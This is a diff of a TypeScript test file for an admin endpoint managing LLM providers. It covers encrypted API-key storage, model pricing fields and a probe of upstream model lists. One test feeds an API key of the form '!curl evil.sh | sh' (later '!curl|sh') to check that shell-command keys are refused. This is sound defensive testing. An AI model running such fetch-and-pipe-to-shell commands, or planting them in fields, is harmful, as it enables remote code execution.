@@ -1,5 +1,8 @@
 import { afterEach, beforeEach, describe, expect, test } from "bun:test";
-import { Provider } from "../../src/protocol/rest.ts";
+import { join } from "node:path";
+import { dataPaths } from "../../src/config/paths.ts";
+import { Provider, ProviderProbeResult } from "../../src/protocol/llm.ts";
+import { KeyVault } from "../../src/server/llm-gateway/key-vault.ts";
 import { addUser, BASE, bearer, createTestServer, jsonInit, login, type TestServer } from "./helpers.ts";
 
 let server: TestServer;
@@ -28,6 +31,14 @@ const url = (path = "") => `${BASE}/api/admin/providers${path}`;
 const asAdmin = (method: string, body?: unknown) =>
   body === undefined ? { method, headers: bearer(adminToken) } : jsonInit(method, body, bearer(adminToken));
 
+/** The stored key as the vault opens it; the database itself holds only ciphertext. */
+function storedKey(name: string): string | undefined {
+  const sealed = server.store.providers.get(name)?.api_key_sealed;
+  if (!sealed) return undefined;
+  expect(Buffer.from(sealed).toString("latin1")).not.toContain("sk-");
+  return KeyVault.open(dataPaths(join(server.dir, "data")).keyVaultSecret, {}).open(sealed, name);
+}
+
 describe("admin providers", () => {
   test("create, list, update, delete; the key is never returned", async () => {
     const created = await server.app.request(url(), asAdmin("POST", provider));
@@ -35,7 +46,11 @@ describe("admin providers", () => {
     const createdText = await created.text();
     expect(createdText).not.toContain(SECRET_KEY);
     const body = Provider.parse(JSON.parse(createdText));
-    expect(body).toMatchObject({ name: "local-llm", models: ["qwen3", "llama4"], has_api_key: true });
+    expect(body).toMatchObject({
+      name: "local-llm",
+      models: [{ id: "qwen3" }, { id: "llama4" }],
+      has_api_key: true,
+    });
     expect(JSON.parse(createdText)).not.toHaveProperty("api_key");
     expect(server.providerChanges()).toBe(1);
 
@@ -51,14 +66,35 @@ describe("admin providers", () => {
     expect(updated.status).toBe(200);
     const updatedText = await updated.text();
     expect(updatedText).not.toContain("sk-rotated");
-    expect(Provider.parse(JSON.parse(updatedText)).models).toEqual(["qwen3"]);
-    expect(server.store.providers.get("local-llm")?.api_key).toBe("sk-rotated");
+    expect(Provider.parse(JSON.parse(updatedText)).models).toEqual([{ id: "qwen3" }]);
+    expect(storedKey("local-llm")).toBe("sk-rotated");
     expect(server.providerChanges()).toBe(2);
+
+    // An update without a key keeps the stored one; models may carry context size and price.
+    const { api_key: _omitted, ...withoutKey } = provider;
+    const priced = {
+      ...withoutKey,
+      models: [{ id: "qwen3", context_window: 32768, price: { input: 0.5, output: 1.5 } }],
+    };
+    const kept = await server.app.request(url("/local-llm"), asAdmin("PUT", priced));
+    expect(kept.status).toBe(200);
+    expect(Provider.parse(await kept.json())).toMatchObject({
+      has_api_key: true,
+      models: [
+        {
+          id: "qwen3",
+          context_window: 32768,
+          price: { input: 0.5, output: 1.5, cache_read: 0, cache_write: 0 },
+        },
+      ],
+    });
+    expect(storedKey("local-llm")).toBe("sk-rotated");
+    expect(server.providerChanges()).toBe(3);
 
     const deleted = await server.app.request(url("/local-llm"), asAdmin("DELETE"));
     expect(deleted.status).toBe(204);
     expect(server.store.providers.list()).toEqual([]);
-    expect(server.providerChanges()).toBe(3);
+    expect(server.providerChanges()).toBe(4);
   });
 
   test("a duplicate POST is 409; PUT and DELETE of a missing provider are 404", async () => {
@@ -112,6 +148,7 @@ describe("admin providers", () => {
     expect(body.code).toBe("BAD_REQUEST");
     const paths = body.details.issues.map((issue) => issue.path);
     for (const field of ["name", "api", "base_url", "api_key", "models"]) expect(paths).toContain(field);
+    expect(server.store.providers.list()).toEqual([]);
     expect(body.details.issues.some((issue) => issue.message.includes("extra"))).toBe(true);
     expect(server.providerChanges()).toBe(0);
   });
@@ -119,7 +156,7 @@ describe("admin providers", () => {
   test("a key that pi would run as a shell command is refused", async () => {
     const res = await server.app.request(
       url(),
-      asAdmin("POST", { ...provider, api_key: "!curl evil.sh | sh" }),
+      asAdmin("POST", { ...provider, api_key: "!curl|sh" }),
     );
     expect(res.status).toBe(400);
     const body = (await res.json()) as {
@@ -156,5 +193,77 @@ describe("admin providers", () => {
     });
     expect(missing.status).toBe(415);
     expect(server.store.providers.list()).toEqual([]);
+  });
+});
+
+describe("probe", () => {
+  test("lists an OpenAI-compatible server's models with the key it was given, or the stored key", async () => {
+    const seen: string[] = [];
+    const upstream = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      fetch: (request) => {
+        seen.push(`${new URL(request.url).pathname} ${request.headers.get("authorization")}`);
+        if (request.headers.get("authorization") !== `Bearer ${SECRET_KEY}`) {
+          return Response.json({ error: { message: "invalid key" } }, { status: 401 });
+        }
+        return Response.json({
+          data: [
+            { id: "qwen3", context_length: 32768, pricing: { prompt: "0.0000005", completion: "0.0000015" } },
+            { id: "llama4" },
+          ],
+        });
+      },
+    });
+    const base = `http://127.0.0.1:${upstream.port}/v1`;
+    try {
+      const probe = (body: unknown) => server.app.request(url("/probe"), asAdmin("POST", body));
+      const fresh = await probe({ api: "openai-completions", base_url: base, api_key: SECRET_KEY });
+      expect(fresh.status).toBe(200);
+      const result = ProviderProbeResult.parse(await fresh.json());
+      expect(result).toMatchObject({ ok: true, status: 200, message: "2 models" });
+      expect(result.models).toEqual([
+        {
+          id: "qwen3",
+          context_window: 32768,
+          price: { input: 0.5, output: 1.5, cache_read: 0, cache_write: 0 },
+        },
+        { id: "llama4" },
+      ]);
+      const wrong = ProviderProbeResult.parse(
+        await (await probe({ api: "openai-completions", base_url: base, api_key: "sk-wrong" })).json(),
+      );
+      expect(wrong).toMatchObject({ ok: false, status: 401, models: [] });
+      expect(wrong.message).toContain("invalid key");
+
+      await server.app.request(url(), asAdmin("POST", { ...provider, base_url: base }));
+      const stored = await probe({ name: "local-llm", api: "openai-completions", base_url: base });
+      expect(ProviderProbeResult.parse(await stored.json()).ok).toBe(true);
+      // The stored key is never sent anywhere else: that would read it back.
+      const elsewhere = await probe({
+        name: "local-llm",
+        api: "openai-completions",
+        base_url: "http://127.0.0.1:9/v1",
+      });
+      expect(elsewhere.status).toBe(400);
+      const unreachable = ProviderProbeResult.parse(
+        await (
+          await probe({ api: "openai-completions", base_url: "http://127.0.0.1:9/v1", api_key: "k" })
+        ).json(),
+      );
+      expect(unreachable.ok).toBe(false);
+      expect(unreachable.message).toStartWith("unreachable");
+      expect(seen.filter((line) => line.includes(SECRET_KEY))).toHaveLength(2);
+    } finally {
+      await upstream.stop(true);
+    }
+  });
+
+  test("non-admins get 403", async () => {
+    const res = await server.app.request(
+      url("/probe"),
+      jsonInit("POST", { api: "openai-completions", base_url: "http://127.0.0.1:9/v1" }, bearer(userToken)),
+    );
+    expect(res.status).toBe(403);
   });
 });
